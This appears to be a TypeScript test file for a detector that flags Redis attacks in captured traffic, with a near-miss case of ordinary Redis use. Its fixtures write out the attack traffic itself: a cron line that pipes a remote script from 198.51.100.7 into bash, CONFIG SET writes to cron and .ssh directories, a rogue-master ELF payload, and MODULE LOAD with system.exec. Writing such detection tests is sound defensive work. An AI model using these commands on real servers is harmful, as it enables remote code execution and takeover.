import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deedsIn, noDeeds, single } from '../../../test/service-talk.ts'
import type { Said, Setting } from '../../../test/wire.ts'
import { redis } from './redis.ts'

const found = (said: readonly Said[], setting: Setting = {}) => deedsIn(redis, said, setting)

const resp = (...words: readonly string[]): string => `*${words.length}\r\n${words.map(word => `$${word.length}\r\n${word}\r\n`).join('')}`
const cron = '\n\n*/2 * * * * curl -fsSL http://198.51.100.7/i.sh | bash\n\n'
const writesCron: Said[] = [
  [0, resp('AUTH', 'a') + resp('AUTH', 'default', 'b')],
  [1, '-WRONGPASS no\r\n+OK\r\n'],
  [0, resp('GET', 'x') + resp('SET', 'x', cron)],
  [1, '$-1\r\n+OK\r\n'],
  [0, resp('CONFIG', 'SET', 'dir', '/var/spool/cron/') + resp('CONFIG', 'SET', 'dbfilename', 'root')],
  [1, '+OK\r\n-ERR no\r\n'],
]

test('Redis: a crontab written by CONFIG, in any segments; inline', () => {
  const expected = {
    exploits: [
      ['redis-config-dbfilename', false],
      ['redis-config-dir', true],
      ['redis-cron-value', true],
    ],
    logins: [['redis', ['default'], 1, true]],
  }
  assert.deepEqual(found(writesCron), expected)
  assert.deepEqual(found(single(writesCron)), expected)
  assert.deepEqual(
    found([
      [0, 'config set dir /root/.ssh\r\n'],
      [1, '+OK\r\n'],
    ]).exploits,
    [['redis-config-dir', true]],
  )
})

test('Redis: a master that is a stranger, what it sends, modules, seen from the middle and turned', () => {
  const rogue: Said[] = [
    [0, resp('PSYNC', '?', '1')],
    [1, `+FULLRESYNC ${'a'.repeat(40)} 1\r\n$9\r\n\x7fELF\x02\x01\x01\x00\x00\r\n`],
  ]
  assert.deepEqual(found(rogue).exploits, [['redis-replica-payload', undefined]])
  assert.deepEqual(found(single(rogue)).exploits, [['redis-replica-payload', undefined]])
  const turned: Said[] = [
    [1, resp('MODULE', 'LOAD', './exp.so')],
    [0, '+OK\r\n'],
    [1, resp('system.exec', 'id')],
  ]
  assert.deepEqual(found(turned, { midstream: true }).exploits, [
    ['redis-module-load', true],
    ['redis-system-exec', undefined],
  ])
  const after: Said[] = [
    [0, resp('SET', 'x', 'y'.repeat(100)).slice(0, 60)],
    [0, 70],
    [0, resp('SLAVEOF', '198.51.100.7', '1')],
  ]
  assert.ok(found(after).exploits.length <= 1)
})

test('near miss: an ordinary day of Redis', () => {
  const said: Said[] = [
    [0, resp('CONFIG', 'SET', 'maxmemory', '1gb') + resp('REPLICAOF', 'NO', 'ONE') + resp('SET', 'job', '{"cron":"*/5 * * * *"}')],
    [1, '+OK\r\n+OK\r\n+OK\r\n'],
    [0, resp('REPLICAOF', '10.0.0.4', '6379') + resp('EVAL', "return redis.call('get', 'x')", '0')],
  ]
  assert.deepEqual(found(said), noDeeds)
  assert.deepEqual(
    found([
      [0, 'GET / HTTP/1.1\r\n\r\n'],
      [0, '*hello\r\n'],
      [0, 'PING :x\r\n'],
    ]),
    noDeeds,
  )
})
